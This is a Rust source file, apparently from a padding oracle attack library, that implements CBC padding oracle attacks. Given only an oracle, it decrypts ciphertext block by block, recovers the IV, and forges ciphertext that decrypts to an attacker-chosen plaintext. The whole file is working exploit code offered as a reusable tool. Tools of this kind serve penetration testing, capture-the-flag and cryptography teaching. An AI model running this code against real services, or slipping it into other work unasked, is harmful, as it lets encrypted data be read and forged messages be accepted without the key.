// CBC padding oracle attacks: decrypting, recovering an IV and forging
// ciphertext, all without the key.
use log::{debug, info};
use rand::RngCore;

use crate::{
    add_padding,
    error::AttackError,
    oracle::PaddingOracle,
    remove_padding,
    solver::{BlockSolver, Framing, QueryMode},
};

pub const DEFAULT_BLOCK_SIZE: usize = 16;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackConfig {
    pub block_size: usize,
    pub query_mode: QueryMode,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            block_size: DEFAULT_BLOCK_SIZE,
            query_mode: QueryMode::Sequential,
        }
    }
}

impl AttackConfig {
    pub fn with_block_size(mut self, block_size: usize) -> Self {
        self.block_size = block_size;
        self
    }

    pub fn with_query_mode(mut self, query_mode: QueryMode) -> Self {
        self.query_mode = query_mode;
        self
    }
}

/// A forged ciphertext and the IV it must be decrypted with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Forgery {
    pub iv: Vec<u8>,
    pub ciphertext: Vec<u8>,
}

impl Forgery {
    /// `iv || ciphertext`, for receivers that read the IV from the first
    /// block.
    pub fn into_bytes(self) -> Vec<u8> {
        let mut bytes = self.iv;
        bytes.extend(self.ciphertext);
        bytes
    }
}

/// A padding oracle attack bound to an oracle and a configuration.
pub struct Attack<O> {
    oracle: O,
    config: AttackConfig,
}

impl<O: PaddingOracle> Attack<O> {
    pub fn new(oracle: O, config: AttackConfig) -> Self {
        Self { oracle, config }
    }

    /// Decrypt every block of `ciphertext` after the first.
    ///
    /// Each block is decrypted using the block before it, so prepend the IV
    /// to recover the first block too. The result still carries whatever
    /// padding the final block had.
    pub async fn crack(&self, ciphertext: &[u8]) -> Result<Vec<u8>, AttackError> {
        let block_size = check_block_size(self.config.block_size)?;
        if ciphertext.len() < 2 * block_size || ciphertext.len() % block_size != 0 {
            return Err(AttackError::InvalidCiphertext {
                len: ciphertext.len(),
                block_size,
            });
        }
        let n_blocks = ciphertext.len() / block_size;
        info!("cracking {n_blocks} blocks of ciphertext");

        // Solved last block first; reversed once the window is exhausted.
        let mut plaintext_blocks: Vec<Vec<u8>> = Vec::with_capacity(n_blocks - 1);
        let mut window_end = ciphertext.len();
        while window_end >= 2 * block_size {
            let preceding_start = window_end - 2 * block_size;
            let target_start = window_end - block_size;
            let framing = Framing::Plaintext {
                preceding: &ciphertext[preceding_start..target_start],
            };
            let block = BlockSolver::new(
                &self.oracle,
                self.config.query_mode,
                &ciphertext[..preceding_start],
                &ciphertext[target_start..window_end],
                framing,
            )
            .solve()
            .await?;
            debug!(
                "block {} plaintext: {}",
                target_start / block_size,
                hex::encode(&block)
            );
            plaintext_blocks.push(block);
            window_end -= block_size;
        }

        let plaintext: Vec<u8> = plaintext_blocks.into_iter().rev().flatten().collect();
        info!("cracked {} bytes", plaintext.len());
        Ok(plaintext)
    }

    /// [`crack`](Self::crack), then strip the padding.
    ///
    /// Only meaningful when the final block of `ciphertext` is the real last
    /// block of a message. A result without valid padding is an error, never
    /// truncated.
    pub async fn crack_unpadded(&self, ciphertext: &[u8]) -> Result<Vec<u8>, AttackError> {
        let plaintext = self.crack(ciphertext).await?;
        Ok(remove_padding(&plaintext)?)
    }

    /// Find the block that, placed before `cipher_block`, makes it decrypt to
    /// `plaintext_block`.
    ///
    /// Given the first ciphertext block and first plaintext block of a
    /// message this is the IV the message was encrypted with. Both blocks
    /// must be exactly the configured block size.
    pub async fn compute_iv(
        &self,
        cipher_block: &[u8],
        plaintext_block: &[u8],
    ) -> Result<Vec<u8>, AttackError> {
        let block_size = check_block_size(self.config.block_size)?;
        if cipher_block.len() != plaintext_block.len() {
            return Err(AttackError::BlockSizeMismatch {
                cipher_block: cipher_block.len(),
                plaintext_block: plaintext_block.len(),
            });
        }
        if cipher_block.len() != block_size {
            return Err(AttackError::UnexpectedBlockLength {
                expected: block_size,
                actual: cipher_block.len(),
            });
        }

        let framing = Framing::PrecedingBlock {
            plaintext: plaintext_block,
        };
        let iv = BlockSolver::new(
            &self.oracle,
            self.config.query_mode,
            &[],
            cipher_block,
            framing,
        )
        .solve()
        .await?;
        debug!("computed preceding block {}", hex::encode(&iv));
        Ok(iv)
    }

    /// Recover `D(cipher_block)`, the block cipher's raw output before it is
    /// chained with the preceding block.
    pub async fn solve_intermediate_state(
        &self,
        cipher_block: &[u8],
    ) -> Result<Vec<u8>, AttackError> {
        let zeros = vec![0; cipher_block.len()];
        self.compute_iv(cipher_block, &zeros).await
    }

    /// Forge a ciphertext and IV that decrypt to `plaintext` under the
    /// oracle's key.
    pub async fn encrypt(&self, plaintext: &[u8]) -> Result<Forgery, AttackError> {
        self.encrypt_with_rng(plaintext, &mut rand::thread_rng()).await
    }

    /// [`encrypt`](Self::encrypt) with the random final block drawn from
    /// `rng`.
    pub async fn encrypt_with_rng(
        &self,
        plaintext: &[u8],
        rng: &mut impl RngCore,
    ) -> Result<Forgery, AttackError> {
        let block_size = check_block_size(self.config.block_size)?;
        let padded = add_padding(plaintext, block_size as u8);
        let n_blocks = padded.len() / block_size;
        info!("forging {n_blocks} blocks of ciphertext");

        // Any block will do at the end; it is only ever decrypted, and we
        // choose what comes before it.
        let mut cipher_block = vec![0u8; block_size];
        rng.fill_bytes(&mut cipher_block);

        let mut cipher_blocks: Vec<Vec<u8>> = Vec::with_capacity(n_blocks);
        for plaintext_block in padded.chunks_exact(block_size).rev() {
            let preceding = self.compute_iv(&cipher_block, plaintext_block).await?;
            cipher_blocks.push(std::mem::replace(&mut cipher_block, preceding));
        }

        let ciphertext = cipher_blocks.into_iter().rev().flatten().collect();
        info!("forged ciphertext with iv {}", hex::encode(&cipher_block));
        Ok(Forgery {
            iv: cipher_block,
            ciphertext,
        })
    }
}

/// Decrypt all but the first block of `ciphertext`, see [`Attack::crack`].
pub async fn crack<O: PaddingOracle>(
    ciphertext: &[u8],
    block_size: usize,
    oracle: &O,
) -> Result<Vec<u8>, AttackError> {
    let config = AttackConfig::default().with_block_size(block_size);
    Attack::new(oracle, config).crack(ciphertext).await
}

/// Recover the block preceding `cipher_block`, see [`Attack::compute_iv`].
pub async fn compute_iv<O: PaddingOracle>(
    cipher_block: &[u8],
    plaintext_block: &[u8],
    oracle: &O,
) -> Result<Vec<u8>, AttackError> {
    let config = AttackConfig::default().with_block_size(cipher_block.len());
    Attack::new(oracle, config)
        .compute_iv(cipher_block, plaintext_block)
        .await
}

/// Forge ciphertext for `plaintext`, see [`Attack::encrypt`].
pub async fn encrypt<O: PaddingOracle>(
    plaintext: &[u8],
    block_size: usize,
    oracle: &O,
) -> Result<Forgery, AttackError> {
    let config = AttackConfig::default().with_block_size(block_size);
    Attack::new(oracle, config).encrypt(plaintext).await
}

fn check_block_size(block_size: usize) -> Result<usize, AttackError> {
    if block_size == 0 || block_size > u8::MAX as usize {
        return Err(AttackError::InvalidBlockSize(block_size));
    }
    Ok(block_size)
}
